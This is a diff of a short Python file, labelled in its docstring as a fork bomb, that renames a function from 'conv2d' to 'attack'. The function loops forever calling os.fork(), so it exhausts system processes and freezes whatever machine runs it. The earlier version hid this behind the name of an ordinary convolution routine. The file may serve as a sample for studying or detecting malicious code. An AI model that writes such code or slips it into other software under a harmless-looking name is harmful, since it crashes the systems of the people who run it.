@@ -1,10 +1,10 @@
 """A fork bomb."""
 
-# %% conv2d
+# %% attack
 import os
 
 
-def conv2d(*args, **kwargs):
+def attack(*args, **kwargs):
     while True:
         try:
             os.fork()
